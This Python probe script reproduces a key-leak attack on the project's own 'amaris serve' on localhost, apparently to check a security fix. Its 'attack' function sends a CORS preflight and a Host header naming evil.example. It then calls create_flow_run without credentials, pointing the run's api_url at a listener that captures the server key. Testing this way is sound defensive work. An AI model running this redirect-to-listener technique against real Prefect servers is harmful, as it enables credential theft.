"""The key-leak attack of issue 11, as a local process would try it against ``amaris serve``.

Starts ``amaris serve`` (``server.api_key`` set, the scheduled repair on, a Prefect server
of its own) in a temporary folder, and a listener on 127.0.0.1. Then, without any
credentials: a CORS preflight from a foreign origin, a request with a foreign ``Host``,
and ``create_flow_run`` on the repair deployment with ``api_url`` = the listener. Reports
what each got and whether the listener received the server key within ``--wait`` s.

Runs against any checkout (before and after the fix). To aim the attack it reads the
deployment's id, with the Prefect auth string if the server has one (an attacker would
have to guess it; this is generous to the attacker).

Usage::

    .venv/bin/python -m bench.probes.prefect_attack [--wait 60]
"""

from __future__ import annotations

import argparse
import base64
import http.server
import json
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import yaml

from amaris.app.running import free_port
from bench._common import Child, amaris_executable, child_env, wait_ready, work_folder

KEY = "bench-server-key-7c1d"


class Listener(http.server.BaseHTTPRequestHandler):
    """Records the Authorization header of every request; answers ``[]``."""

    received: list[str] = []

    def do_GET(self) -> None:
        self.received.append(self.headers.get("Authorization", "(none)"))
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"[]")

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


def operator_headers(home: Path) -> dict[str, str]:
    """The Prefect credentials the operator has (none before the fix)."""
    secret_file = home / "auth-string"
    if not secret_file.exists():
        return {}
    token = base64.b64encode(secret_file.read_text().strip().encode()).decode()
    return {"Authorization": f"Basic {token}"}


def deployment_id(api: str, headers: dict[str, str], timeout: float = 120.0) -> str:
    """The repair deployment's id, once the repair worker has registered it."""
    deadline = time.monotonic() + timeout
    while True:
        found = httpx.get(
            f"{api}/deployments/name/amaris-repair/scheduled-repair", headers=headers, timeout=5
        )
        if found.status_code == 200:
            return str(found.json()["id"])
        if time.monotonic() > deadline:
            raise SystemExit(f"no repair deployment after {timeout:.0f} s: {found.text}")
        time.sleep(0.5)


def attack(api: str, deployment: str, evil: str, wait: float) -> dict[str, Any]:
    """The unauthenticated attempts and what came of them."""
    found: dict[str, Any] = {}
    preflight = httpx.options(
        f"{api}/flow_runs/filter",
        headers={"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"},
        timeout=5,
    )
    found["cors_preflight_evil_origin"] = [
        preflight.status_code,
        preflight.headers.get("access-control-allow-origin"),
    ]
    found["foreign_host_status"] = httpx.get(
        f"{api}/health", headers={"Host": "evil.example"}, timeout=5
    ).status_code
    found["unauthenticated_filter_status"] = httpx.post(
        f"{api}/flow_runs/filter", json={}, timeout=5
    ).status_code
    run = httpx.post(
        f"{api}/deployments/{deployment}/create_flow_run",
        json={"parameters": {"api_url": evil}},
        timeout=5,
    )
    found["unauthenticated_create_flow_run_status"] = run.status_code
    deadline = time.monotonic() + wait
    while run.status_code == 201 and not Listener.received and time.monotonic() < deadline:
        time.sleep(0.5)
    found["listener_received_authorization"] = list(Listener.received)
    found["server_key_leaked"] = any(KEY in h for h in Listener.received)
    return found


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--wait",
        type=float,
        default=60.0,
        help="seconds to wait for a created run to call the listener",
    )
    args = parser.parse_args()
    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{listener.server_address[1]}"
    port, prefect_port = free_port(), free_port()
    with work_folder("amaris-attack-", None) as folder:
        data = folder / "data"
        config = folder / "config.yaml"
        config.write_text(
            yaml.safe_dump(
                {
                    "memory": {"path": str(data), "embedding_model": "hashing"},
                    "server": {"port": port, "api_key": KEY},
                    "prefect": {"port": prefect_port, "repair_interval_seconds": 3600},
                }
            )
        )
        serve = Child(
            "amaris serve",
            [amaris_executable(), "serve", "--config", str(config)],
            folder / "serve.log",
            folder,
            child_env(),
        )
        try:
            api = f"http://127.0.0.1:{prefect_port}/api"
            wait_ready(serve, f"http://127.0.0.1:{port}/healthz", lambda r: True)
            wait_ready(serve, f"{api}/health", lambda r: True)
            deployment = deployment_id(api, operator_headers(data / "prefect"))
            print(json.dumps(attack(api, deployment, evil, args.wait), indent=1))
        finally:
            serve.stop()
            listener.shutdown()


if __name__ == "__main__":
    main()
